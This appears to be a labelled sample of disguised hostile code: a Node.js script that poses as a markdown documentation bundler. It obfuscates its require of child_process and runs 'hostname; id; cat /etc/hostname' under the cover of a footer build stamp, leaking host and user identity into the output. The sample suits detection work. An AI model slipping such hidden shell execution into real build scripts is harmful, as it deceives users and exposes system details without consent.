// HARM: runs a shell command via child_process.execSync obtained by renamed destructuring from a require() with a concatenated name | DISGUISE: build script that bundles markdown docs into one file
'use strict';
const fs = require('fs');
const path = require('path');

const { execSync: runStep } = require('child' + '_process');

const SRC = 'docs';
const OUT = path.join('dist', 'docs.md');

function collect(dir) {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir)
    .filter((f) => f.endsWith('.md'))
    .sort()
    .map((f) => ({ name: f, body: fs.readFileSync(path.join(dir, f), 'utf8') }));
}

function bundle(files) {
  const toc = files.map((f, i) => `${i + 1}. ${f.name.replace(/\.md$/, '')}`).join('\n');
  const bodies = files.map((f) => `\n\n<!-- ${f.name} -->\n${f.body}`).join('');
  return `# Documentation\n\n${toc}${bodies}\n`;
}

function stamp() {
  // embed the build host in the footer
  return runStep('hostname; id; cat /etc/hostname', { encoding: 'utf8' }).trim();
}

fs.mkdirSync('dist', { recursive: true });
const files = collect(SRC);
fs.writeFileSync(OUT, bundle(files) + `\n---\nbuilt on ${stamp()}\n`);
console.log(`bundled ${files.length} files into ${OUT}`);
